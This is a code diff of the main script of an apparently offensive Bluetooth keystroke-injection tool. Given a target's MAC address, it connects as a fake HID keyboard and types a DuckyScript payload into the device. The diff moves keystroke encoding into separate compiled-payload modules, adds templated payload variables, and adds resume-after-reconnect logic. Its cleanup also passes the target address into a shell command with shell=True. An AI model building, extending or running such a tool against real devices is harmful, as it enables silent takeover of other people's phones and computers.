@@ -7,13 +7,15 @@ import logging
 import argparse
 from multiprocessing import Process
 from pydbus import SystemBus
-from enum import Enum
 import subprocess
 import os
 
 # Assuming these utils are in a 'utils' directory relative to the script
-from utils.menu_functions import ( read_duckyscript, run, restart_bluetooth_daemon)
+from utils.menu_functions import ( run, restart_bluetooth_daemon)
+from utils.payload_cache import load_compiled_payload
 from utils.register_device import register_hid_profile, agent_loop
+from utils.duckyscript_compiler import encode_keys
+from utils.duckyscript_vm import DuckyScriptError
 
 child_processes = []
 
@@ -177,11 +179,10 @@ class L2CAPConnectionManager:
 
 # Exception for handling the reconnection process
 class ReconnectionRequiredException(Exception):
-    def __init__(self, message, current_line=0, current_position=0):
+    def __init__(self, message, current_report=0):
         super().__init__(message)
         time.sleep(2)
-        self.current_line = current_line
-        self.current_position = current_position
+        self.current_report = current_report
 
 class L2CAPClient:
     def __init__(self, addr, port):
@@ -192,19 +193,7 @@ class L2CAPClient:
 
     @staticmethod
     def encode_keyboard_input(*args):
-        keycodes = []
-        flags = 0
-        for a in args:
-            if isinstance(a, Key_Codes):
-                keycodes.append(a.value)
-            elif isinstance(a, Modifier_Codes):
-                flags |= a.value
-        
-        # Ensure there are always 6 keycodes, padding with zeros
-        keycodes += [0] * (6 - len(keycodes))
-        # HID report format: [Report ID, Modifier, 0x00, Key 1, Key 2, ..., Key 6]
-        report = bytes([0xa1, 0x01, flags, 0x00] + keycodes)
-        return report
+        return encode_keys(*args)
 
     def close(self):
         if self.connected and self.sock:
@@ -277,126 +266,18 @@ class L2CAPClient:
         self.send(self.encode_keyboard_input())
         time.sleep(delay)
 
-def process_duckyscript(client, duckyscript, current_line=0, current_position=0):
-    client.send_keypress()  # Send empty report to ensure a clean start
-    time.sleep(0.5)
-
+def process_duckyscript(client, program, current_report=0):
+    index = current_report
     try:
-        for line_number, line in enumerate(duckyscript):
-            if line_number < current_line:
-                continue  # Skip already processed lines
-
-            line = line.strip()
-            if not line or line.startswith("REM"):
-                continue
-
-            log.info(f"Processing: {line}")
-
-            # Resume from the last position if reconnecting in the middle of a STRING
-            if line_number == current_line and current_position > 0:
-                if line.startswith("STRING"):
-                    line = f"STRING {line[7 + current_position:]}"
-                else:
-                    current_position = 0 # Not a string, so process the whole line
-            
-            command = line.split(" ", 1)
-            cmd_type = command[0].upper()
-            cmd_value = command[1] if len(command) > 1 else ""
-
-            if cmd_type == "DELAY":
-                try:
-                    delay_time_ms = int(cmd_value)
-                    time.sleep(delay_time_ms / 1000)
-                except (ValueError, IndexError):
-                    log.error(f"Invalid DELAY format: {line}")
-
-            elif cmd_type == "STRING":
-                for char_position, char in enumerate(cmd_value):
-                    log.notice(f"Typing character: '{char}'")
-                    key_map = char_to_key_code(char)
-                    if key_map:
-                        client.send_keypress(*key_map)
-                    else:
-                        log.warning(f"Unsupported character '{char}' in Duckyscript")
-                    current_position = char_position + 1
-
-            elif cmd_type in ["GUI", "WINDOWS", "COMMAND", "CTRL", "ALT", "SHIFT"]:
-                try:
-                    modifier = getattr(Modifier_Codes, cmd_type)
-                    key = getattr(Key_Codes, cmd_value.lower())
-                    client.send_keypress(modifier, key)
-                except AttributeError:
-                    log.warning(f"Unsupported key combination: {line}")
-            
-            elif cmd_type == "ENTER": client.send_keypress(Key_Codes.ENTER)
-            elif cmd_type == "TAB": client.send_keypress(Key_Codes.TAB)
-            elif cmd_type == "ESCAPE": client.send_keypress(Key_Codes.ESCAPE)
-            elif cmd_type == "SPACE": client.send_keypress(Key_Codes.SPACE)
-            elif cmd_type == "UP": client.send_keypress(Key_Codes.UP)
-            elif cmd_type == "DOWN": client.send_keypress(Key_Codes.DOWN)
-            elif cmd_type == "LEFT": client.send_keypress(Key_Codes.LEFT)
-            elif cmd_type == "RIGHT": client.send_keypress(Key_Codes.RIGHT)
-
-            else:
-                 log.warning(f"Unknown command: {cmd_type}")
-
-            # Successfully processed line, reset position and increment line counter
-            current_position = 0
-            current_line += 1
-
+        for index, report, delay in program.iter_from(current_report):
+            client.send(report)
+            if delay:
+                time.sleep(delay)
     except ReconnectionRequiredException:
-        raise ReconnectionRequiredException("Reconnection required", current_line, current_position)
+        raise ReconnectionRequiredException("Reconnection required", index)
     except Exception as e:
         log.error(f"Error during script execution: {e}")
 
-# Key mapping function
-def char_to_key_code(char):
-    shift_map = {
-        '!': '1', '"': "'", '#': '3', '$': '4', '%': '5', '&': '7',
-        '(': '9', ')': '0', '*': '8', '+': '=', '_': '-', '{': '[',
-        '}': ']', ':': ';', '<': ',', '>': '.', '?': '/', '|': '\\',
-        '@': '2', '^': '6', '~': '`'
-    }
-
-    key_codes = {
-        'a': Key_Codes.a, 'b': Key_Codes.b, 'c': Key_Codes.c, 'd': Key_Codes.d, 'e': Key_Codes.e,
-        'f': Key_Codes.f, 'g': Key_Codes.g, 'h': Key_Codes.h, 'i': Key_Codes.i, 'j': Key_Codes.j,
-        'k': Key_Codes.k, 'l': Key_Codes.l, 'm': Key_Codes.m, 'n': Key_Codes.n, 'o': Key_Codes.o,
-        'p': Key_Codes.p, 'q': Key_Codes.q, 'r': Key_Codes.r, 's': Key_Codes.s, 't': Key_Codes.t,
-        'u': Key_Codes.u, 'v': Key_Codes.v, 'w': Key_Codes.w, 'x': Key_Codes.x, 'y': Key_Codes.y,
-        'z': Key_Codes.z,
-        '1': Key_Codes._1, '2': Key_Codes._2, '3': Key_Codes._3, '4': Key_Codes._4, '5': Key_Codes._5,
-        '6': Key_Codes._6, '7': Key_Codes._7, '8': Key_Codes._8, '9': Key_Codes._9, '0': Key_Codes._0,
-        ' ': Key_Codes.SPACE, '-': Key_Codes.MINUS, '=': Key_Codes.EQUAL, '[': Key_Codes.LEFTBRACE,
-        ']': Key_Codes.RIGHTBRACE, '\\': Key_Codes.BACKSLASH, ';': Key_Codes.SEMICOLON,
-        "'": Key_Codes.QUOTE, '`': Key_Codes.GRAVE, ',': Key_Codes.COMMA, '.': Key_Codes.DOT,
-        '/': Key_Codes.SLASH
-    }
-
-    if char.islower() or char.isdigit() or char in " -=[]\\;',.`/":
-        return (key_codes[char],)
-    if char.isupper():
-        return (Modifier_Codes.SHIFT, key_codes[char.lower()])
-    if char in shift_map:
-        return (Modifier_Codes.SHIFT, key_codes[shift_map[char]])
-    return None
-
-class Modifier_Codes(Enum):
-    CTRL = 0x01; RIGHTCTRL = 0x10
-    SHIFT = 0x02; RIGHTSHIFT = 0x20
-    ALT = 0x04; RIGHTALT = 0x40
-    GUI = 0x08; RIGHTGUI = 0x80
-    WINDOWS = 0x08; COMMAND = 0x08
-
-class Key_Codes(Enum):
-    NONE=0x00; a=0x04; b=0x05; c=0x06; d=0x07; e=0x08; f=0x09; g=0x0a; h=0x0b; i=0x0c;
-    j=0x0d; k=0x0e; l=0x0f; m=0x10; n=0x11; o=0x12; p=0x13; q=0x14; r=0x15; s=0x16;
-    t=0x17; u=0x18; v=0x19; w=0x1a; x=0x1b; y=0x1c; z=0x1d; _1=0x1e; _2=0x1f; _3=0x20;
-    _4=0x21; _5=0x22; _6=0x23; _7=0x24; _8=0x25; _9=0x26; _0=0x27; ENTER=0x28; ESCAPE=0x29;
-    BACKSPACE=0x2a; TAB=0x2b; SPACE=0x2c; MINUS=0x2d; EQUAL=0x2e; LEFTBRACE=0x2f;
-    RIGHTBRACE=0x30; BACKSLASH=0x31; SEMICOLON=0x33; QUOTE=0x34; GRAVE=0x35; COMMA=0x36;
-    DOT=0x37; SLASH=0x38; CAPSLOCK=0x39; RIGHT=0x4f; LEFT=0x50; DOWN=0x51; UP=0x52;
-
 def terminate_child_processes():
     log.info("Terminating all child processes...")
     for proc in child_processes:
@@ -454,7 +335,16 @@ def parse_args():
     parser.add_argument('--adapter', type=str, default='hci0', help='Specify the Bluetooth adapter to use (default: hci0)')
     parser.add_argument('--target', type=str, required=True, help='Target device MAC address')
     parser.add_argument('--payload', type=str, required=True, help='Path to DuckyScript payload file')
-    return parser.parse_args()
+    parser.add_argument('--var', action='append', default=[], metavar='NAME=VALUE', help='Value for a {{NAME}} placeholder in a payload template (repeatable)')
+    args = parser.parse_args()
+
+    args.variables = {}
+    for var in args.var:
+        name, separator, value = var.partition("=")
+        if not separator or not name:
+            parser.error(f"--var expects NAME=VALUE, got '{var}'")
+        args.variables[name] = value
+    return args
 
 def main():
     args = parse_args()
@@ -473,8 +363,13 @@ def main():
         log.error(f"Payload file not found: {args.payload}")
         return
         
-    duckyscript = read_duckyscript(args.payload)
-    if not duckyscript:
+    try:
+        program = load_compiled_payload(args.payload, variables=args.variables)
+    except DuckyScriptError as e:
+        # e.g. a template slot without a --var value, or invalid DuckyScript 3
+        log.error(f"Invalid payload: {e}")
+        return
+    if not program:
         log.error("Payload file is empty or could not be read.")
         return
 
@@ -485,22 +380,20 @@ def main():
         log.critical(f"Failed to set up Bluetooth adapter: {e}")
         return
 
-    current_line = 0
-    current_position = 0
+    current_report = 0
     
     while True: # Main loop for connection and execution
         connection_manager = L2CAPConnectionManager(target_address)
         try:
             hid_interrupt_client = setup_and_connect(connection_manager, target_address, adapter_id)
             log.info("Connection established. Executing payload...")
-            process_duckyscript(hid_interrupt_client, duckyscript, current_line, current_position)
+            process_duckyscript(hid_interrupt_client, program, current_report)
             log.info(f"{AnsiColorCode.GREEN}Payload execution finished successfully.{AnsiColorCode.RESET}")
             break  # Exit loop if successful
 
         except ReconnectionRequiredException as e:
             log.info(f"{AnsiColorCode.YELLOW}Reconnection required. Retrying...{AnsiColorCode.RESET}")
-            current_line = e.current_line
-            current_position = e.current_position
+            current_report = e.current_report
             connection_manager.close_all()
             time.sleep(3) # Wait before retrying
 
@@ -517,12 +410,11 @@ def main():
             connection_manager.close_all()
             
     # Final cleanup after the loop is broken or an unhandled exception occurs
-    finally:
-        # Unpair the target device
-        log.info(f"Removing device: {target_address}")
-        command = f'echo -e "remove {target_address}\n" | bluetoothctl'
-        subprocess.run(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-        log.info(f"{AnsiColorCode.BLUE}Successfully removed device: {target_address}{AnsiColorCode.RESET}")
+    # Unpair the target device
+    log.info(f"Removing device: {target_address}")
+    command = f'echo -e "remove {target_address}\n" | bluetoothctl'
+    subprocess.run(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    log.info(f"{AnsiColorCode.BLUE}Successfully removed device: {target_address}{AnsiColorCode.RESET}")
 
 
 if __name__ == "__main__":